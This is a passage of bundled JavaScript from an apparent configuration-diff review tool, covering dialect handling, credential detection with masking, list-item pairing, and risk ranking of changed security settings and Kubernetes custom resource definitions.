  name: "serverless",
  recognises: isService,
  isObject: (keys) => keys.length === 2 && keys[0] === "functions",
  owns: ({ keys }) => /^provider\.(?:iamRoleStatements|iam\.role\.statements)/.test(keys.join(".")),
  facts: (pairs) => pairs.flatMap(statementFacts)
};

// src/domains/config/dialects/index.ts
var dialects = [
  breakwater_default,
  cloudformation_default,
  compose_default,
  github_workflow_default,
  gitlab_ci_default,
  helm_values_default,
  kubernetes_default,
  openapi_part_default,
  openapi_default,
  serverless_default
].flat();

// src/domains/config/credentials.ts
var MAY_HOLD = / = .*\S{16}/s;
var DIGEST = /^\S* = (?:[\w./:-]+@)?(?:sha256:)?[0-9a-f]{40,64}$/;
var LONGEST7 = 2e6;
var LEFT_OUT = /-(?:filter-comments|basicauth|database-connection-string)$/;
async function credentialsIn(texts) {
  const found = /* @__PURE__ */ new Map();
  const candidates = [...new Set(texts)].filter((text) => MAY_HOLD.test(text) && !DIGEST.test(text));
  for (const batch of batches(candidates)) {
    const content = batch.map(({ text }) => text).join(BETWEEN);
    for (const { ruleId, range } of await lint(content)) {
      const holder = batch.find(({ start, text }) => range[0] >= start && range[1] <= start + text.length);
      if (holder === void 0 || found.has(holder.text)) continue;
      found.set(holder.text, nameOf3(ruleId));
    }
  }
  return found;
}
var BETWEEN = "\n\n";
function* batches(texts) {
  let batch = [];
  let start = 0;
  for (const text of texts) {
    if (batch.length > 0 && start + text.length > LONGEST7) {
      yield batch;
      [batch, start] = [[], 0];
    }
    batch.push({ text, start });
    start += text.length + BETWEEN.length;
  }
  if (batch.length > 0) yield batch;
}
async function lint(content) {
  const [{ lintSource }, { creator }] = await Promise.all([
    import("./module-6EVHVRPW.js"),
    import("./module-MHAFMDUE.js")
  ]);
  const rules4 = creator.rules.filter(({ meta }) => !LEFT_OUT.test(meta.id));
  const preset = {
    ...creator,
    rules: rules4,
    create: (context) => rules4.forEach((rule) => context.registerRule(rule))
  };
  const { messages } = await lintSource({
    source: { filePath: "values.txt", ext: ".txt", contentType: "text", content },
    options: { noPhysicFilePath: true, maskSecrets: true, config: { rules: [{ id: creator.meta.id, rule: preset }] } }
  });
  return messages;
}
var nameOf3 = (ruleId) => `${ruleId.replace(/^.*secretlint-rule-/, "").replaceAll("-", " ")} credential`;

// src/domains/config/arguments.ts
function asSettings(list) {
  const items = list.items.filter((item) => item.kind === "scalar");
  if (items.length !== list.items.length || items.length === 0) return void 0;
  if (items.every(({ text }) => VARIABLE.test(text))) return mapOf2(list, items.map(variable));
  return items.some(({ text }) => FLAG.test(text)) ? mapOf2(list, flags(items)) : void 0;
}
var COMMAND = /^(?:command|entrypoint|args|\w+_(?:opts|options|args|flags)|(?:java|jvm|extra)(?:opts|options|args))$/i;
var LONGEST8 = 2e4;
function asWords(name, node) {
  if (node.kind !== "scalar" || !COMMAND.test(name) || node.text.length > LONGEST8) return node;
  const words2 = node.text.match(/(?:"[^"]*"|'[^']*'|[^\s"'])+/g) ?? [];
  const items = words2.map((word) => derived2(node, word.replace(/^(["'])(.*)\1$/s, "$2")));
  return items.some(({ text }) => FLAG.test(text)) ? { ...node, kind: "list", items } : node;
}
var VARIABLE = /^[A-Za-z_][\w.]*=/;
var FLAG = /^-{1,2}[A-Za-z]/;
function variable(item) {
  const sign = item.text.indexOf("=");
  return [item.text.slice(0, sign), derived2(item, item.text.slice(sign + 1))];
}
function flags(items) {
  const entries = [];
  for (let i = 0; i < items.length; i++) {
    const item = items[i];
    const next = items[i + 1];
    if (item === void 0) continue;
    if (!FLAG.test(item.text)) entries.push([item.text, item]);
    else if (item.text.includes("=")) entries.push(variable(item));
    else if (next === void 0 || FLAG.test(next.text)) entries.push([item.text, derived2(item, "true")]);
    else {
      entries.push([item.text, derived2(next, next.text)]);
      i++;
    }
  }
  return entries;
}
var derived2 = (item, text) => ({ ...item, text, value: text });
function mapOf2(list, found) {
  const numbered = numbering();
  return { ...list, kind: "map", entries: new Map(found.map(([name, value]) => [numbered(name), value])) };
}

// src/domains/config/branches.ts
function alignBranches(before3, after) {
  const forked = /* @__PURE__ */ new Set([...forks(before3), ...forks(after)]);
  if (forked.size === 0) return [before3, after];
  const [old, now] = [new Map(before3.entries), new Map(after.entries)];
  for (const key3 of forked) {
    const [was, is] = [branches(before3, key3), branches(after, key3)];
    if (was.length === is.length || was.length === 0 || is.length === 0) continue;
    relabel(old, key3, was, is);
    relabel(now, key3, is, was);
  }
  return [
    { ...before3, entries: old },
    { ...after, entries: now }
  ];
}
var forks = ({ entries }) => [...entries.keys()].filter((key3) => key3.endsWith(" (2)")).map((key3) => key3.slice(0, -" (2)".length));
var label = (key3, branch) => branch === 1 ? key3 : `${key3} (${branch})`;
function branches({ entries }, key3) {
  const found = [];
  for (let next = entries.get(key3); next !== void 0; next = entries.get(label(key3, found.length + 1)))
    found.push(next);
  return found;
}
function relabel(entries, key3, own, others) {
  const known2 = new Set(others.map(signature));
  for (const [i, branch] of own.entries()) {
    entries.delete(label(key3, i + 1));
    if (!known2.has(signature(branch))) entries.set(`${key3} (${i + 1})`, branch);
  }
}

// src/domains/config/level.ts
function expand(node) {
  if (node.kind === "list") return asSettings(node) ?? node;
  return node.kind === "scalar" ? nestedIn(node) : node;
}
function level2(before3, after) {
  if (before3.kind === "scalar")
    return after.kind === "scalar" ? levelScalars(before3, after) : [asContainer(before3, after), after];
  if (after.kind === "scalar") return [before3, asContainer(after, before3)];
  return before3.kind === "list" && after.kind === "list" ? levelLists(before3, after) : [before3, after];
}
function levelLists(before3, after) {
  const old = before3.items.length === 0 ? emptyMap(before3) : asSettings(before3);
  const now = after.items.length === 0 ? emptyMap(after) : asSettings(after);
  return old && now ? [old, now] : [before3, after];
}
function levelScalars(before3, after) {
  if (isSameScalar(before3, after)) return [before3, after];
  const [old, now] = [nestedIn(before3), nestedIn(after)];
  return old && now && old.kind === now.kind ? [old, now] : [before3, after];
}
function asContainer(scalar2, like) {
  if (scalar2.value === null) return like.kind === "map" ? emptyMap(scalar2) : { ...scalar2, kind: "list", items: [] };
  const isPlainList = like.kind === "list" && like.items.length > 0 && like.items.every(({ kind }) => kind === "scalar");
  return isPlainList ? { ...scalar2, kind: "list", items: [scalar2] } : scalar2;
}
var emptyMap = ({ line, endLine }) => ({
  kind: "map",
  entries: /* @__PURE__ */ new Map(),
  line,
  endLine,
  size: 1,
  depth: 1
});

// src/domains/config/list-items.ts
var IDENTITY_KEYS = [
  "name",
  "id",
  "key",
  "alias",
  "alert",
  "record",
  "job_name",
  "mountPath",
  "containerPort",
  "port",
  "host",
  "path"
];
var EDITED = 0.3;
var RENAMED2 = 0.6;
function pairItems(before3, after, identify) {
  const steps2 = stepsOf3([before3, after], identify);
  const [old, now] = [itemsOf(before3, steps2), itemsOf(after, steps2)];
  const named4 = compare(old, now, ({ step: step2, node }) => step2.name === void 0 ? senseOf(node) : step2.label);
  const equal2 = compare(named4.removed, named4.added, ({ node }) => senseOf(node));
  return [...named4.matched, ...equal2.matched, ...pairTheRest(equal2.removed, equal2.added)];
}
var LARGE = 500;
var senseOf = (node) => node.size > LARGE ? "large" : signature(node);
function pairTheRest(before3, after) {
  const [from3, to] = [before3[0], after[0]];
  const areNamed = [...before3, ...after].some(({ step: step2 }) => step2.kind === "item" && step2.name !== void 0);
  if (from3 && to && before3.length === 1 && after.length === 1 && !areNamed) return [{ before: from3, after: to }];
  return pairByLikeness(before3, after, ({ node }) => node, areNamed ? RENAMED2 : EDITED);
}
var itemsOfOne = (list, identify) => itemsOf(list, stepsOf3([list], identify));
var itemsOf = (list, stepOf2) => list.items.map((node, index) => ({ node, step: stepOf2(node, index) }));
function stepsOf3(lists, identify) {
  const shared2 = IDENTITY_KEYS.find((key3) => lists.every((list) => tellsApart(key3, list.items)));
  return (node, index) => {
    const told5 = identify(node) ?? (shared2 === void 0 ? void 0 : { key: shared2, value: textAt(node, shared2) ?? "" });
    if (told5 === void 0) return { kind: "item", label: String(index) };
    return { kind: "item", label: `${told5.key}=${told5.value}`, name: told5.value };
  };
}
function tellsApart(key3, items) {
  const values3 = new Set(items.map((item) => textAt(item, key3)));
  return values3.size === items.length && !values3.has(void 0);
}

// src/domains/config/diff.ts
function diff(pair, dialect30, evidence = noEvidence) {
  const walk = new Walk(pair, dialect30, evidence);
  walk.visit({ ...ROOT, before: pair.before?.root, after: pair.after?.root });
  return walk.edits;
}
var ROOT = { path: [], keys: [], owner: "kept", inSchema: false, isNested: false };
var Walk = class {
  edits = [];
  #pair;
  #dialect;
  #evidence;
  constructor(pair, dialect30, evidence) {
    this.#pair = pair;
    this.#dialect = dialect30;
    this.#evidence = evidence;
  }
  visit(spot) {
    if (spot.after === void 0) return this.#cameOrWent("removed", spot);
    if (spot.before === void 0) return this.#cameOrWent("added", spot);
    const name = nameOf(spot.path);
    const [before3, after] = level2(asWords(name, spot.before), asWords(name, spot.after));
    const isText2 = spot.before.kind === "scalar" && spot.after.kind === "scalar";
    const isNested = spot.isNested || isText2 && before3.kind !== "scalar";
    this.#compare(before3, after, { ...spot, before: before3, after, isNested });
  }
  #compare(before3, after, spot) {
    if (before3.kind === "map" && after.kind === "map") this.#compareMaps(...this.#aligned(before3, after), spot);
    else if (before3.kind === "list" && after.kind === "list") this.#compareLists(before3, after, spot);
    else if (before3.kind !== "scalar" || after.kind !== "scalar") this.#emit("retyped", spot);
    else if (!isSameScalar(before3, after)) this.#emit("changed", spot);
  }
  #aligned(before3, after) {
    return this.#pair.after?.isTemplate === true ? alignBranches(before3, after) : [before3, after];
  }
  #compareMaps(before3, after, spot) {
    const removed2 = [...before3.entries].filter(([key3]) => !after.entries.has(key3));
    const added2 = [...after.entries].filter(([key3]) => !before3.entries.has(key3));
    const { renamed: renamed2, maybe } = this.#hasClosedKeys(spot) ? NO_MATCHES : matchKeys(removed2, added2, this.#evidence);
    for (const [key3, now] of after.entries) {
      const from3 = renamed2.get(key3);
      const child = this.#below(spot, { kind: "key", name: key3 }, before3.entries.get(from3 ?? key3), now);
      if (from3 !== void 0) this.#emit("renamed", child, { from: from3, reader: this.#evidence(from3, key3) });
      this.visit(child);
    }
    const stillThere = new Set(renamed2.values());
    for (const [key3, old] of removed2)
      if (!stillThere.has(key3))
        this.#cameOrWent("removed", this.#below(spot, { kind: "key", name: key3 }, old, void 0), maybe.get(key3));
  }
  #compareLists(before3, after, spot) {
    if (isPlain(before3) && isPlain(after)) {
      if (contentOf2(before3) !== contentOf2(after)) this.#emit("changed", spot);
      return;
    }
    for (const { before: old, after: now } of pairItems(before3, after, (item) => this.#identify(item, spot))) {
      const item = now ?? old;
      if (item) this.visit(this.#below(spot, item.step, old?.node, now?.node));
    }
  }
  /** The root of what is new or gone, and all inside; but what a lost object held is lost with it, and no news. */
  #cameOrWent(kind, spot, maybe) {
    const root = spot.after ?? spot.before;
    if (root === void 0) return;
    this.#emit(kind, spot, { maybe });
    const owner = this.#isObject(root, spot) ? whenObject(spot) : spot.owner;
    if (owner === "gone") return;
    const container2 = expand(root);
    const isNested = spot.isNested || root.kind === "scalar";
    for (const [step2, child] of this.#children(container2, spot)) {
      const [before3, after] = spot.after === void 0 ? [child, void 0] : [void 0, child];
      this.#cameOrWent("inside", { ...this.#below(spot, step2, before3, after), owner, isNested });
    }
  }
  #children(container2, spot) {
    if (container2?.kind === "map") return [...container2.entries].map(([name, node]) => [{ kind: "key", name }, node]);
    if (container2 === void 0 || isPlain(container2)) return [];
    return itemsOfOne(container2, (item) => this.#identify(item, spot)).map(({ step: step2, node }) => [step2, node]);
  }
  #below(spot, step2, before3, after) {
    const keys = step2.kind === "key" ? [...spot.keys, step2.name] : spot.keys;
    return {
      path: [...spot.path, step2],
      keys,
      before: before3,
      after,
      ownerBefore: spot.before,
      ownerAfter: spot.after,
      around: spot.after ?? spot.around,
      owner: spot.owner,
      inSchema: spot.inSchema || step2.kind === "key" && this.#isSchema(step2.name, keys, spot),
      isNested: spot.isNested
    };
  }
  /** Whether what stands at a place is an object: see `Setting.owner`. */
  #isObject(node, { path: path27, keys, isNested }) {
    if (path27.length === 0 || path27.at(-1)?.kind === "item") return true;
    if (this.#dialect === void 0 || isNested) return node.kind !== "scalar";
    return this.#asks((dialect30, document) => dialect30.isObject?.(keys, document));
  }
  #identify(item, { keys, isNested }) {
    return isNested ? void 0 : this.#dialect?.itemIdentity?.(keys, item);
  }
  #hasClosedKeys({ keys, isNested }) {
    return !isNested && this.#asks((dialect30, document) => dialect30.closedKeys?.(keys, document));
  }
  #isSchema(key3, keys, { before: before3, after }) {
    if (key3 === "openAPIV3Schema" || key3 === "$defs") return true;
    const owner = after ?? before3;
    if (key3 === "properties" && owner?.kind === "map" && owner.entries.has("type")) return true;
    return this.#asks((dialect30, document) => dialect30.isSchema?.(keys, document));
  }
  #asks(question) {
    const document = this.#pair.after ?? this.#pair.before;
    return this.#dialect !== void 0 && document !== void 0 && (question(this.#dialect, document) ?? false);
  }
  #emit(kind, spot, { from: from3, reader, maybe } = {}) {
    const setting = { ...spot, document: this.#pair, name: nameOf(spot.path) };
    const naming = { ...from3 === void 0 ? {} : { from: from3 }, ...maybe === void 0 ? {} : { maybe } };
    this.edits.push({ kind, setting, ...naming, ...reader === void 0 ? {} : { reader } });
  }
};
var whenObject = ({ after }) => after === void 0 ? "gone" : "born";
var isPlain = (list) => list.items.every((item) => item.kind === "scalar");
var contentOf2 = (list) => list.items.map(signature).toSorted().join();

// src/domains/config/file-facts.ts
function fileFacts({ before: before3, after }) {
  if (after === void 0) return [];
  return [...conditionFacts(before3, after), ...duplicateFacts(before3, after), ...commentFacts(before3, after)];
}
function conditionFacts(before3, after) {
  if (before3 === void 0) return [];
  const [old, now] = [before3.conditions.filter(decides), after.conditions.filter(decides)];
  const { removed: removed2, added: added2 } = compare(old, now, ({ text }) => text.replace(/\s+/g, " "));
  if (removed2.length !== added2.length) return [];
  const facts = removed2.flatMap((was, index) => {
    const is = added2[index];
    return is === void 0 ? [] : [conditionFact(before3.path, after.path, was, is)];
  });
  return [...new Map(facts.map((fact4) => [fact4.key, fact4])).values()];
}
var decides = ({ text }) => /^(?:else |el)?if /.test(text);
var conditionFact = (oldPath, path27, old, now) => ({
  kind: "condition-changed",
  subject: path27,
  key: `${old.text}->${now.text}`,
  from: old.text,
  to: now.text,
  before: { path: oldPath, line: old.line },
  after: { path: path27, line: now.line },
  ...contextOf({ area: areaOf(path27), isPublic: false })
});
function duplicateFacts(before3, after) {
  const { added: added2 } = compare(duplicatesOf(before3), duplicatesOf(after), ({ text }) => text);
  return added2.map(({ text, line }) => ({
    kind: "duplicate-key",
    subject: text,
    key: after.path,
    name: text,
    after: { path: after.path, line },
    ...contextOf({ area: areaOf(after.path), isPublic: false })
  }));
}
var duplicatesOf = (file) => (file?.documents ?? []).flatMap(({ duplicates }) => duplicates);
function commentFacts(before3, after) {
  const { added: added2 } = compare(before3?.inComments ?? [], after.inComments, ({ text }) => text);
  return added2.map(({ text, line }) => ({
    kind: "secret-written",
    subject: after.path,
    key: text,
    after: { path: after.path, line },
    ...contextOf({ area: areaOf(after.path), isPublic: false }),
    name: "comment",
    inComment: true,
    looks: text.slice(0, text.lastIndexOf(" ")),
    by: "format",
    wasReference: false,
    secret: true
  }));
}
function withoutTold(ofFiles, ofTrees) {
  const told5 = ofTrees.flatMap(({ kind, after }) => kind === "secret-written" && after ? [after] : []);
  return ofFiles.filter((fact4) => {
    const { path: path27, line = 0 } = fact4.after ?? {};
    const isTold = told5.some(
      (place2) => place2.path === path27 && place2.line <= line && line <= (place2.endLine ?? place2.line)
    );
    return fact4.kind !== "secret-written" || !isTold;
  });
}

// src/domains/config/held-before.ts
function heldBefore(settings) {
  let known2;
  return (setting, text) => {
    known2 ??= new Set(settings.flatMap(({ name, before: before3 }) => [...textsWithin(name, before3)]));
    return [text, decoded2(text)].some(
      (each) => each !== void 0 && (known2?.has(entry2(setting.name, each)) === true || stoodThere(setting, each))
    );
  };
}
var documents = /* @__PURE__ */ new WeakMap();
function stoodThere({ before: before3, document, keys }, text) {
  const root = document.before?.root;
  if (root === void 0 || isDynamic(before3)) return false;
  const known2 = documents.get(root) ?? new Set(textsWithin("", root));
  documents.set(root, known2);
  return known2.has(entry2(keys.at(-1) ?? "", text));
}
function* textsWithin(name, node) {
  if (node?.kind === "scalar") yield* textsOf2(name, node);
  else if (node?.kind === "list") for (const item of node.items) yield* textsWithin(name, item);
  else if (node !== void 0) for (const [key3, inner] of node.entries) yield* textsWithin(key3, inner);
}
function* textsOf2(name, { text }) {
  if (text.length < SHORTEST || text.length > LONGEST9) return;
  yield entry2(name, text);
  const plain2 = decoded2(text);
  if (plain2 !== void 0) yield entry2(name, plain2);
}
var SHORTEST = 6;
var LONGEST9 = 1e4;
var entry2 = (name, text) => `${name.toLowerCase()}
${text.trim()}`;
var BASE64 = /^(?:[A-Za-z0-9+/]{4})*(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?$/;
var decoded2 = (text) => BASE64.test(text) ? Buffer.from(text, "base64").toString() : void 0;

// src/domains/config/control.ts
function control(row) {
  const hasOutcome = (name) => Object.hasOwn(row.outcomes, name);
  return {
    ...row,
    on: "control-moved",
    reading: row,
    classify(change) {
      if (change.control !== row.id) return void 0;
      if (row.refine !== void 0) return row.refine(change);
      return hasOutcome(change.transition) ? change.transition : void 0;
    }
  };
}
function transitionOf(reading2, setting) {
  const { before: before3, after } = setting;
  if (setting.owner === "gone") return void 0;
  const rankOf5 = (node) => node === void 0 || isDynamic(node) && reading2.byPresence !== true ? void 0 : reading2.rank(node, setting);
  const [from3, to] = [rankOf5(before3), rankOf5(after)];
  const absent = absentOf(reading2, setting);
  if (before3 === void 0) return isUndoing(reading2, setting, absent) ? "flip" : whenSet(to, absent, ownerOf(setting));
  if (after === void 0) return isSaidElsewhere(setting) ? void 0 : whenDropped(from3, absent);
  if (reading2.byPresence === true) return whenMoved(from3, to);
  if (isDynamic(after)) return whenFilledIn(from3, rankOf5(unsetOf(after)));
  return to === 0 && isSettled(before3, after) ? "flip" : whenMoved(from3, to);
}
var absentOf = ({ absent }, setting) => typeof absent === "function" ? absent(setting) : absent;
var isSettled = (before3, after) => isDynamic(before3) && before3.kind === "scalar" && after.kind === "scalar" && !before3.text.split(/[^\w.-]+/).some((word) => word.replace(/^-/, "") === after.text);
var isSaidElsewhere = (setting) => {
  const { document, around } = setting;
  const { after } = document;
  if (after?.isPatch === true || isSpelledOut(setting)) return true;
  return around !== void 0 && (isDynamic(around) || after?.filled?.has(around.line) === true);
};
var isSpelledOut = ({ keys, ownerAfter }) => ownerAfter?.kind === "map" && [...ownerAfter.entries.keys()].some((key3) => key3.startsWith(`${keys.at(-1)}.`));
var isOverride = ({ document: { after } }) => after?.isPatch === true && !after.isOfNewOverlay;
var ownerOf = (setting) => isOverride(setting) ? "kept" : setting.owner;
var isUndoing = (reading2, setting, absent) => absent === 0 && isOverride(setting) && setting.after !== void 0 && !isDynamic(setting.after) && reading2.rank(setting.after, { ...setting, before: setting.after }) === 0;
var whenFilledIn = (from3, byDefault) => from3 === void 0 || from3 === 0 || from3 === byDefault ? void 0 : "template";
function whenMoved(from3, to) {
  if (from3 === void 0 || to === void 0 || from3 === to) return void 0;
  return to < from3 ? "flip" : "hardened";
}
function whenSet(to, absent, owner) {
  if (to === void 0) return void 0;
  if (to < (absent ?? 1)) return owner === "born" ? "born" : "open";
  return absent === void 0 || to === absent || owner === "born" ? void 0 : "hardened";
}
function whenDropped(from3, absent) {
  if (from3 === void 0) return void 0;
  if (from3 > (absent ?? 0)) return "drop";
  return absent === void 0 || from3 === absent ? void 0 : "hardened";
}

// src/domains/config/shown.ts
var MASK = "\u2022\u2022\u2022";
var LONGEST10 = 80;
function isSecret(setting) {
  const { document, keys, name } = setting;
  if (isSecretKey(name) || isBySecretKey(keys) || keys.includes("secretGenerator")) return true;
  const root = (document.after ?? document.before)?.root;
  return textAt(root, "kind") === "Secret" && ["data", "stringData"].includes(keys[0] ?? "");
}
function isBySecretKey(keys) {
  const [above = "", last = ""] = [keys.at(-2), keys.at(-1)];
  return isSecretKey(last) || isSecretKey(above) && !describes(last);
}
var DESCRIBES = /* @__PURE__ */ new Set(["algorithm", "days", "enabled", "length", "policy", "rotation", "size", "ttl", "type"]);
var describes = (key3) => DESCRIBES.has(wordsOf(key3).at(-1) ?? "");
function shown2(node, setting) {
  if (node.kind === "map") return node.entries.size === 0 ? "{}" : "{\u2026}";
  if (node.kind === "list")
    return shorten(
      `[${textsOf(node).map((text) => shownText(text, setting)).join(", ")}]`,
      LONGEST10
    );
  const tag = node.tag === void 0 ? "" : `${node.tag} `;
  if (node.value === null) return "null";
  if (node.text === "") return '""';
  return tag + (node.text.length < LONGEST10 && isReference(node.text) ? shorten(node.text, LONGEST10) : shownText(node.text, setting));
}
var shownText = (text, setting) => isSecret(setting) ? MASK : shorten(maskSecrets(text.split("\n").join(" ")), LONGEST10);

// src/domains/config/judge.ts
function controlsAmong(rules4) {
  const controls = rules4.filter(isControl);
  const general = controls.filter(({ reading: reading2 }) => reading2.dialect === void 0);
  const own = (dialect30) => controls.filter(({ reading: reading2 }) => [reading2.dialect].flat().includes(dialect30));
  const byDialect = /* @__PURE__ */ new Map();
  return (dialect30) => {
    if (dialect30 === void 0) return { own: [], general };
    const known2 = byDialect.get(dialect30) ?? { own: own(dialect30), general };
    byDialect.set(dialect30, known2);
    return known2;
  };
}
var isControl = (rule) => "reading" in rule;
var LABELS = /* @__PURE__ */ new Set(["labels", "matchLabels", "matchExpressions", "selector", "nodeSelector"]);
function movedControl({ own, general }, setting, dialect30) {
  if (setting.inSchema || setting.owner === "gone" || isUnset(setting)) return void 0;
  const isClosed2 = owns(dialect30, setting) || isEffectiveSetting(setting) || setting.keys.some((key3) => LABELS.has(key3));
  const judged3 = [setting.isNested ? [] : judgedBy(own, setting), isClosed2 ? [] : judgedBy(general, setting)];
  const [spoken] = judged3.filter(({ length }) => length > 0);
  return spoken?.toSorted((a, b) => compareRisk(b.risk, a.risk))[0]?.fact;
}
var isUnset = ({ before: before3, after }) => before3 === void 0 && after === void 0;
var owns = (dialect30, setting) => !setting.isNested && (dialect30?.owns?.(setting) ?? false);
var judgedBy = (controls, setting) => controls.flatMap((control2) => control2.reading.governs(setting) ? judgementOf(control2, setting) ?? [] : []);
function judgementOf(control2, setting) {
  const transition = transitionOf(control2.reading, setting);
  if (transition === void 0) return void 0;
  const fact4 = moveOf(setting, transition, control2);
  const outcome = control2.outcomes[control2.classify(fact4) ?? ""];
  return outcome && { fact: fact4, risk: outcome.risk };
}
function moveOf(setting, transition, { id: control2, reading: reading2 }) {
  const told5 = (node) => reading2.tell?.(node, setting) ?? shown2(node, setting);
  const from3 = setting.before && told5(setting.before);
  const to = setting.after && told5(setting.after);
  const where = whereabouts(setting, `${from3 ?? "unset"}->${to ?? "unset"}`);
  const values3 = { ...from3 === void 0 ? {} : { from: from3 }, ...to === void 0 ? {} : { to } };
  const secret4 = isSecret(setting) ? { secret: true } : {};
  return {
    kind: "control-moved",
    ...where,
    control: control2,
    transition,
    name: tellingName(setting),
    ...values3,
    ...secret4,
    ...guardedBy2(setting, transition),
    ...besides(setting, reading2, transition)
  };
}
function besides(setting, reading2, transition) {
  const [mark2, group4] = [reading2.mark?.(setting), reading2.cause?.(setting)];
  const isLost2 = reading2.lostTogether === true && transition === "drop";
  return {
    ...mark2 === void 0 ? {} : { mark: mark2 },
    ...group4 === void 0 ? {} : { group: group4 },
    ...isLost2 ? { lostFrom: `${setting.document.path} ${subjectOf(setting.document, setting.path.slice(0, -1))}` } : {}
  };
}
function guardedBy2({ document, name, before: before3, after, ownerAfter }, transition) {
  if (before3 !== void 0) return {};
  const chosen = (document.after?.guards ?? []).filter(
    (guard3) => guard3.asks === "set" || guard3.asks === "unset" && (transition === "born" || isOfTopic(guard3, name))
  );
  const guard2 = guardBetween(chosen, ownerAfter, after);
  return guard2 === void 0 ? {} : { condition: guard2.condition };
}
function worstFirst(rules4, facts) {
  const judged3 = facts.flatMap((fact4) => {
    const risks = rules4.filter((rule) => [rule.on].flat().includes(fact4.kind)).flatMap((rule) => rule.outcomes[rule.classify(fact4) ?? ""]?.risk ?? []);
    const [risk] = risks.toSorted((a, b) => compareRisk(b, a));
    return risk === void 0 ? [] : [{ fact: fact4, risk }];
  });
  return judged3.toSorted((a, b) => compareRisk(b.risk, a.risk)).map(({ fact: fact4 }) => fact4);
}

// src/domains/config/kubernetes/crd-copies.ts
import { dirname as dirname3 } from "node:path/posix";

// src/domains/config/kubernetes/crd-modifiers.ts
var forDefinitions = (id, applies, lowered, note) => ({
  id,
  adjust: (change, risk) => change.kind === "crd-broken" && applies(change) ? { risk: lowered(risk), note } : void 0
});
var OF_VERSION = /(?:^|\/)(?:[a-z]+[-_])*v?\d+[.-]\d+(?:[.-]\d+)?(?:-[\w.]+)?\//i;
var isOfOneVersion = (path27) => OF_VERSION.test(path27);
var atMostLow = (risk) => capRisk(risk, "low");
var definitionModifiers = [
  forDefinitions(
    "of-one-version",
    ({ what, before: before3 }) => what === "removed" && isOfOneVersion(before3?.path ?? ""),
    (risk) => shiftRisk(risk, -2),
    "Two steps lower, for its folder is that of one version."
  ),
  forDefinitions(
    "status",
    ({ what, field }) => what !== "subresource-removed" && /^status\b/.test(field),
    atMostLow,
    "Not more than low, for only controllers write the status."
  ),
  forDefinitions(
    "mild-check",
    ({ weight }) => weight === "mild",
    atMostLow,
    "Not more than low, for what was written sensibly stays as it was."
  ),
  forDefinitions(
    "embedded-type",
    ({ weight }) => weight === "embedded",
    atMostLow,
    "Not more than low, for it is a type of Kubernetes itself, and follows its release."
  ),
  forDefinitions(
    "early-version",
    ({ weight }) => weight === "early",
    (risk) => shiftRisk(risk, -1),
    "One step lower, for a version on trial may change at any time."
  )
];

// src/domains/config/kubernetes/crd-copies.ts
var MOST_SEARCHED = 1e3;
var MOST_READ = 500;
async function withCopies(facts, { head }) {
  const names2 = new Set(facts.flatMap((fact4) => nameLost(fact4) ?? []));
  if (names2.size === 0) return facts;
  const copies = await copiesOf(names2, head);
  return facts.flatMap((fact4) => {
    const others = copies.get(nameLost(fact4) ?? "") ?? [];
    return fact4.kind === "crd-broken" && others.length > 0 ? judged2(fact4, others) : [fact4];
  });
}
function nameLost(fact4) {
  if (fact4.kind !== "crd-broken") return void 0;
  if (fact4.what === "removed") return fact4.crd;
  return fact4.what === "identity-changed" && fact4.field === "name" ? fact4.from : void 0;
}
function judged2(fact4, others) {
  const { weight: _weight, ...rest } = fact4;
  const folder = dirname3(fact4.before?.path ?? "");
  if (others.some((path27) => dirname3(path27) === folder)) return [];
  const crd3 = nameLost(fact4) ?? "";
  const sides = { from: fact4.before?.path, to: others[0] };
  return [{ ...rest, what: "copy-removed", crd: crd3, field: "", ...sides, group: "copy-removed" }];
}
async function copiesOf(names2, head) {
  const paths2 = (await head.list("")).filter(
    (path27) => /\.ya?ml$/i.test(path27) && areaOf(path27) !== "test" && !isOfOneVersion(path27)
  );
  const searched = likeliestFirst(paths2).slice(0, MOST_SEARCHED);
  const lines = await linesWith(head, searched, "CustomResourceDefinition").catch(noHint) ?? [];
  const holding2 = searched.filter((_, index) => KIND.test(lines[index] ?? "")).slice(0, MOST_READ);
  const texts = await Promise.all(holding2.map((path27) => hintIn(head, path27)));
  const found = holding2.flatMap((path27, index) => definedIn(texts[index] ?? "").map((name) => ({ name, path: path27 })));
  const ofNames = gather(
    found.filter(({ name }) => names2.has(name)),
    ({ name }) => name
  );
  return new Map([...ofNames].map(([name, all]) => [name, all.map(({ path: path27 }) => path27)]));
}
var likeliestFirst = (paths2) => paths2.toSorted((a, b) => Number(LIKELY.test(b)) - Number(LIKELY.test(a)));
var LIKELY = /crd|definition|manifest|bundle|install/i;
var KIND = /^\s*kind:\s*["']?CustomResourceDefinition\b/m;
var definedIn = (text) => text.split(/^---/m).filter((document) => KIND.test(document) && /\bnames:/.test(document)).flatMap((document) => Array.from(document.matchAll(/\bname:[ \t]*["']?([\w.-]+)/g), ([, name = ""]) => name));

// src/domains/config/kubernetes/nearby.ts
import { dirname as dirname4 } from "node:path/posix";
var MOST_FILES2 = 100;
var LONGEST11 = 3e5;
async function gatherNearby(pairs, { head }) {
  const folders = new Set(pairs.filter(losesNames).map(({ file }) => dirname4(file.path)));
  const known2 = new Set(pairs.map(({ file }) => file.path));
  const lists = await Promise.all([...folders].map((folder) => head.list(folder === "." ? "" : folder)));
  const paths2 = [...new Set(lists.flat())].filter(
    (path27) => /\.ya?ml$/i.test(path27) && folders.has(dirname4(path27)) && !known2.has(path27)
  );
  const files2 = await Promise.all(paths2.slice(0, MOST_FILES2).map(async (path27) => read2(path27, await hintIn(head, path27))));
  return files2.flatMap(
    (file) => file === void 0 ? [] : [{ file: { path: file.path, status: "modified" }, before: file, after: file }]
  );
}
function read2(path27, text) {
  if (text === void 0 || text.length > LONGEST11 || !/^ *apiVersion:/m.test(text)) return void 0;
  try {
    return parse(text, path27);
  } catch (error) {
    return noneIfUnreadable(error);
  }
}
function losesNames({ before: before3, after }) {
  const still = new Set(after?.documents.flatMap(namesOf4));
  return before3?.documents.flatMap(namesOf4).some((name) => !still.has(name)) === true;
}
var TARGETS = /* @__PURE__ */ new Set([
  "ConfigMap",
  "PersistentVolumeClaim",
  "Secret",
  "Service",
  "ServiceAccount"
]);
function namesOf4(document) {
  if (!isObject(document)) return [];
  const { root } = document;
  const own = `${kindOf(document)}/${namespaceOf(document)}/${nameOf2(document) ?? ""}`;
  const keys = ["data", "stringData", "binaryData"].flatMap((part) => entriesOf(at(root, part)).map(([name]) => name));
  const pod2 = podOf(document);
  if (pod2 === void 0) return TARGETS.has(kindOf(document)) ? [own, ...keys.map((key3) => `${own} ${key3}`)] : [];
